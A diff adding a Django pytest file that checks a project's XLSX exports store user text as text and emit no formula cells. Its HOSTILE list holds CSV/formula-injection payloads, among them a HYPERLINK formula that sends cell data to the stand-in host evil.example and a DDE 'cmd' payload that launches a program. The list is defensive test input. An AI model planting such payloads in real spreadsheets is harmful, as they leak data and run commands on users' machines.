@@ -1,0 +1,141 @@
+"""Every XLSX the project produces writes user text as text: zero formula cells.
+
+The probe found station names like `=HYPERLINK(...)` coming out of the stations export as
+live formulas, and uploaded cells echoed in the roster problem-rows file (24 formula cells
+in one file). This test feeds hostile text into every export and opens the results with
+openpyxl; a route added later that serves an .xlsx fails `test_every_xlsx_route_is_tested`
+until it is added here, and a module that builds a workbook itself fails
+`test_only_core_xlsx_builds_workbooks`.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+from pathlib import Path
+
+import openpyxl
+import pytest
+from django.urls import reverse
+
+from gonghui.core.xlsx import XlsxWriter, is_formula_like
+from tests.factories import Tree
+from tests.roster.helpers import HEADER, csv_bytes, upload, xlsx_bytes
+from tests.security.urlwalk import all_paths
+from tests.stations.helpers import make_station
+
+pytestmark = pytest.mark.django_db
+
+SRC = Path(__file__).resolve().parents[2] / "src" / "gonghui"
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+    "+SUM(1,2)",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    "＝1+1",
+]
+TESTED_ROUTES = {"console:stations:export", "console:members:roster_template", "console:members:roster_bad_rows"}
+
+
+def _formula_cells(content: bytes) -> list[tuple[str, str, object]]:
+    workbook = openpyxl.load_workbook(io.BytesIO(content))
+    found = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f" or (isinstance(cell.value, str) and is_formula_like(cell.value)
+                                             and not cell.quotePrefix):
+                    found.append((sheet.title, cell.coordinate, cell.value))
+    return found
+
+
+def _texts(content: bytes) -> set[str]:
+    workbook = openpyxl.load_workbook(io.BytesIO(content))
+    return {c.value for s in workbook.worksheets for r in s.iter_rows() for c in r if isinstance(c.value, str)}
+
+
+def _body(response) -> bytes:
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def test_stations_export_keeps_hostile_names_as_text(client):
+    tree = Tree()
+    for index, text in enumerate(HOSTILE):
+        make_station(union=tree.city_a, name=f"{text}{index}"[:60], address=text)
+    client.force_login(tree.staff_a)
+    response = client.get(reverse("console:stations:export"))
+    assert response.status_code == 200
+    content = _body(response)
+    assert _formula_cells(content) == []
+    assert HOSTILE[0] in _texts(content)  # the value itself is unchanged, only neutralised
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_roster_problem_rows_file_keeps_uploaded_cells_as_text(client, django_capture_on_commit_callbacks, file_format):
+    tree = Tree()
+    rows = [[text] * len(HEADER) for text in HOSTILE]
+    content = csv_bytes(rows) if file_format == "csv" else xlsx_bytes(rows)
+    from gonghui.members.services import roster_import_create
+
+    with django_capture_on_commit_callbacks(execute=True):
+        job = roster_import_create(actor=tree.staff_a, union_id=tree.grassroots_a.pk,
+                                   upload=upload(content, f"roster.{file_format}"))
+    job.refresh_from_db()
+    # An uploaded xlsx's own "=…" cells are formulas with no cached value: they read as
+    # empty, so only the csv file has every hostile row.
+    assert job.error_rows == len(HOSTILE) if file_format == "csv" else job.error_rows >= 4
+    client.force_login(tree.staff_a)
+    response = client.get(reverse("console:members:roster_bad_rows", args=[job.pk]))
+    assert response.status_code == 200
+    body = _body(response)
+    assert _formula_cells(body) == []
+    assert HOSTILE[1] in _texts(body)
+
+
+def test_roster_template_has_no_formula_cells_and_text_id_columns(client):
+    tree = Tree()
+    client.force_login(tree.staff_a)
+    content = client.get(reverse("console:members:roster_template")).content
+    assert _formula_cells(content) == []
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+    assert sheet.column_dimensions["B"].number_format == "@"
+
+
+def test_safe_writer_neutralises_every_trigger_and_keeps_numbers_typed():
+    writer = XlsxWriter()
+    sheet = writer.sheet("t")
+    sheet.append([*HOSTILE, "#N/A", 42, -3.5, None, "正常文本"])
+    content = writer.to_bytes()
+    assert _formula_cells(content) == []
+    row = next(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows())
+    assert [c.data_type for c in row[: len(HOSTILE) + 1]] == ["s"] * (len(HOSTILE) + 1)
+    assert (row[len(HOSTILE) + 1].value, row[len(HOSTILE) + 2].value) == (42, -3.5)
+
+
+def test_every_xlsx_route_is_tested():
+    from django.urls import get_resolver
+
+    def names(patterns, namespace=""):
+        for entry in patterns:
+            if hasattr(entry, "url_patterns"):
+                inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
+                yield from names(entry.url_patterns, inner)
+            elif ".xlsx" in str(entry.pattern) or "export" in str(entry.pattern):
+                yield f"{namespace}{entry.name}"
+
+    assert set(names(get_resolver().url_patterns)) == TESTED_ROUTES
+    assert any(p.endswith(".xlsx") for p in all_paths())
+
+
+def test_only_core_xlsx_builds_workbooks():
+    offenders = []
+    for path in SRC.rglob("*.py"):
+        if path == SRC / "core" / "xlsx.py" or "migrations" in path.parts:
+            continue
+        text = path.read_text(encoding="utf-8")
+        if re.search(r"\bWorkbook\s*\(|WriteOnlyCell|import\s+xlsxwriter|\.to_excel\(", text):
+            offenders.append(str(path.relative_to(SRC)))
+    assert offenders == []
